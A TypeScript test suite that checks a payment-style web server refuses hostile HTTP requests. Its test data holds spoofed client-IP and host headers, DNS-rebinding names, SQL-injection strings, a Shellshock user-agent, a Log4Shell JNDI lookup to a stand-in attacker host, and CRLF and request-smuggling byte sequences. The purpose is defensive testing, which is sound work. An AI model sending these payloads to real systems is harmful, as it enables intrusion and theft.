import { afterAll, beforeAll, describe, it } from 'vitest';
import type { Mallory } from './mallory.ts';
import { each } from './trial.ts';
import { World } from './world.ts';

let world: World;
let mallory: Mallory;
beforeAll(async () => {
  world = await World.open();
  mallory = await world.mallory();
});
afterAll(() => world.close());

const get = (path: string, headers: Record<string, string | string[]> = {}) =>
  world.line.send({ method: 'GET', path, headers });

describe('headers', () => {
  const EVIL = 'evil.example';
  const TRICKS: Record<string, string | string[]>[] = [
    ...[
      '127.0.0.1',
      '::1',
      '10.0.0.1',
      'localhost',
      `127.0.0.1, ${EVIL}`,
      "' OR 1=1",
      '[object Object]',
      'x'.repeat(3_000),
    ].flatMap((from) =>
      ['x-forwarded-for', 'x-real-ip', 'client-ip', 'true-client-ip'].map((name) => ({ [name]: from })),
    ),
    { forwarded: 'for=127.0.0.1;by=127.0.0.1;host=localhost' },
    ...['x-forwarded-host', 'x-host', 'x-forwarded-server', 'x-original-host', 'origin', 'referer'].map(
      (name) => ({ [name]: `https://${EVIL}` }),
    ),
    ...['x-original-url', 'x-rewrite-url', 'x-forwarded-path', 'x-forwarded-prefix', 'x-override-url'].map(
      (name) => ({ [name]: '/main/user' }),
    ),
    { 'x-forwarded-proto': 'javascript' },
    { 'x-user-id': '1', 'user-id': '1', 'x-admin': 'true', 'x-internal': '1' },
    { authorization: 'Basic YWRtaW46YWRtaW4=' },
    { cookie: 'admin=1; main_token=x; session=x' },
    { 'cf-ipcountry': 'XX', 'x-country': 'XX' },
    { accept: '../../etc/passwd', 'accept-language': "' OR 1=1 --", 'accept-encoding': 'x'.repeat(2_000) },
    { 'user-agent': `() { :; }; echo ${EVIL}` },
    { 'user-agent': `\${jndi:ldap://${EVIL}/a}` },
    { 'if-none-match': '*', 'if-modified-since': 'x', range: 'bytes=0-9999999999' },
    { 'access-control-request-method': 'PUT', origin: `https://${EVIL}` },
    { expect: '100-continue' },
    { te: 'trailers' },
    { via: `1.1 ${EVIL}`, connection: 'keep-alive, main_token' },
    { 'x-big': 'x'.repeat(15_000) },
    { 'x-big': 'x'.repeat(20_000) },
    Object.fromEntries(Array.from({ length: 1_500 }, (_, i) => [`x-${i}`, 'y'])),
    Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`x-${i}`, 'y'])),
  ];

  it('grant no access, and are not echoed', async () => {
    const paths = [
      '/main/user',
      '/main/user/brief',
      '/main/balance/summary',
      '/main/pay/info',
      '/main/withdraw/info',
    ];
    await each(
      TRICKS.flatMap((headers) => paths.map((path) => [headers, path] as const)),
      async ([headers, path]) => {
        const answer = await get(path, headers);
        const what = `${path} with ${JSON.stringify(headers).slice(0, 60)}`;
        world.trial.judge(what, answer, 'refused');
        const answerText = JSON.stringify(answer.headers) + answer.text;
        world.trial.hold(`${what} repeats nothing`, !answerText.includes(EVIL), answerText);
        world.trial.hold(
          `${what} lets no other site read`,
          answer.headers['access-control-allow-origin'] === undefined,
        );
      },
    );
    world.trial.settle();
  });

  it('do not make an address private behind a proxy', async () => {
    for (const path of ['/metrics', '/sandbox/outbox', '/sandbox/payments', '/sandbox/outbox.css'])
      for (const from of ['127.0.0.1', '::1', '10.0.0.1', '203.0.113.1', '127.0.0.1, 127.0.0.1', 'x', ''])
        for (const name of ['x-forwarded-for', 'forwarded'])
          world.trial.judge(`${path} with ${name}: ${from}`, await get(path, { [name]: from }), 'refused');
    world.trial.settle();
  });

  it('open no page of the sandbox by a rebound name', async () => {
    const { port } = new URL(world.house.url);
    const names = [
      EVIL,
      `localhost.${EVIL}`,
      `127.0.0.1.${EVIL}`,
      `127.0.0.1.nip.io`,
      'localhost.',
      'localhost@evil.example',
      'evil.example@localhost',
      `${EVIL}#localhost`,
      `${EVIL}/localhost`,
      '0.0.0.0',
      '[::]',
      '[::ffff:127.0.0.1]',
      '::1',
      '2130706433',
      '0x7f.0.0.1',
      '127.1',
      '127.0.0.2',
      'ip6-localhost',
      'localhost,localhost',
      '10.0.0.1',
      '*',
      'null',
      'undefined',
      '__proto__',
    ];
    const hosts = [
      ...names.flatMap((name) => [name, `${name}:${port}`]),
      ...[':', `:${port}`, 'localhost', '127.0.0.1', 'localhost:1', 'localhost:', `localhost:0${port}`],
      ...[
        `localhost:${port}:${port}`,
        `localhost:${port}.${EVIL}`,
        `localhost:${port}@${EVIL}`,
        `localhost:${port}/`,
      ],
    ];
    const pages = ['/sandbox/outbox', '/sandbox/payments', '/sandbox/outbox.css', '/sandbox/payments.css'];
    await each(
      hosts.flatMap((host) => pages.map((path) => [host, path] as const)),
      async ([host, path]) => world.trial.judge(`${path} of ${host}`, await get(path, { host }), 'refused'),
    );
    // A forwarded host, as from a proxy, does not count either.
    for (const path of pages)
      for (const name of ['x-forwarded-host', 'x-host', 'x-original-host'])
        world.trial.judge(
          `${path} with ${name}`,
          await get(path, { host: `${EVIL}:${port}`, [name]: `localhost:${port}` }),
          'refused',
        );
    const form = { 'content-type': 'application/x-www-form-urlencoded' };
    const { rows } = await world.house.db.pool.query('SELECT id FROM sandbox_orders WHERE reference = $1', [
      world.victim.depositReference,
    ]);
    for (const host of [EVIL, `${EVIL}:${port}`])
      for (const headers of [{}, { origin: `http://${host}` }] as Record<string, string>[])
        world.trial.judge(
          `a button of ${host}`,
          await world.line.send({
            method: 'POST',
            path: '/sandbox/payments',
            headers: { ...form, host, ...headers },
            body: `id=${rows[0].id}&press=paid`,
          }),
          'refused',
        );
    for (const line of ['', 'Host:\r\n', `Host: ${EVIL}\r\nHost: localhost:${port}\r\n`])
      for (const version of ['1.0', '1.1'])
        world.trial.judgeRaw(
          `HTTP/${version} with ${JSON.stringify(line)}`,
          await world.line.raw(`GET /sandbox/outbox HTTP/${version}\r\n${line}Connection: close\r\n\r\n`),
          'refused',
        );
    for (const name of ['localhost', '127.0.0.1', '[::1]'])
      world.trial.hold(
        `${name} opens it`,
        (await get(pages[0]!, { host: `${name}:${port}` })).status === 200,
      );
    world.trial.settle();
  });

  it('that end early or smuggle a second request have no effect', async () => {
    const host = 'Host: kilat\r\n';
    const smuggled = `GET /main/user HTTP/1.1\r\n${host}main_token: ${mallory.token}\r\n\r\n`;
    const lines: [string, string][] = [
      [
        'a line feed in a value',
        `GET /main/user HTTP/1.1\r\n${host}X: a\nmain_token: ${mallory.token}\r\nConnection: close\r\n\r\n`,
      ],
      [
        'a carriage return in a value',
        `GET /main/user HTTP/1.1\r\n${host}X: a\rmain_token: ${mallory.token}\r\nConnection: close\r\n\r\n`,
      ],
      [
        'a second line in the path',
        `GET /main/user%0d%0amain_token:%20${mallory.token} HTTP/1.1\r\n${host}Connection: close\r\n\r\n`,
      ],
      ['a blank in the path', `GET /main/user x HTTP/1.1\r\n${host}Connection: close\r\n\r\n`],
      ['no version', `GET /main/user\r\n${host}\r\n`],
      ['version 9', `GET /main/user HTTP/9.9\r\n${host}Connection: close\r\n\r\n`],
      ['HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
      ['TLS', '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'],
      ['no host', 'GET /main/user HTTP/1.1\r\nConnection: close\r\n\r\n'],
      ['two hosts', `GET /main/user HTTP/1.1\r\n${host}Host: ${EVIL}\r\nConnection: close\r\n\r\n`],
      ['a tunnel', `CONNECT ${EVIL}:443 HTTP/1.1\r\nHost: ${EVIL}\r\n\r\n`],
      ['another protocol', `GET /main/user HTTP/1.1\r\n${host}Upgrade: h2c\r\nConnection: Upgrade\r\n\r\n`],
      [
        'a channel elsewhere',
        `GET /main/user HTTP/1.1\r\n${host}Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: x\r\n\r\n`,
      ],
      [
        'a name with a blank',
        `GET /main/user HTTP/1.1\r\n${host}main_token : ${mallory.token}\r\nConnection: close\r\n\r\n`,
      ],
      [
        'a folded header',
        `GET /main/user HTTP/1.1\r\n${host}X: a\r\n main_token: ${mallory.token}\r\nConnection: close\r\n\r\n`,
      ],
      ['a header of noughts', `GET /main/user HTTP/1.1\r\n${host}X: \0\0\0\r\nConnection: close\r\n\r\n`],
      ['100 kB of one header', `GET /main/user HTTP/1.1\r\n${host}X: ${'y'.repeat(100_000)}\r\n\r\n`],
      ['100 kB of path', `GET /main/${'y'.repeat(100_000)} HTTP/1.1\r\n${host}\r\n`],
      ['noise', 'nonsense\r\n\r\n'],
    ];
    for (const [what, bytes] of lines) world.trial.judgeRaw(what, await world.line.raw(bytes), 'refused');
    // A request hidden in a refused body is not processed.
    for (const coding of [
      'Content-Length: 6\r\nTransfer-Encoding: chunked',
      'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
      'Transfer-Encoding: chunked, x',
      'Transfer-Encoding: \x0bchunked',
      'Content-Length: 6, 6',
      'Content-Length: +6',
      'Content-Length: 0x6',
    ]) {
      const text = await world.line.raw(
        `POST /main/user HTTP/1.1\r\n${host}Content-Type: application/json\r\n${coding}\r\n\r\n0\r\n\r\n${smuggled}`,
      );
      world.trial.judgeRaw(`a second request behind ${coding.slice(0, 40)}`, text, 'refused');
    }
    world.trial.settle();
  });
});
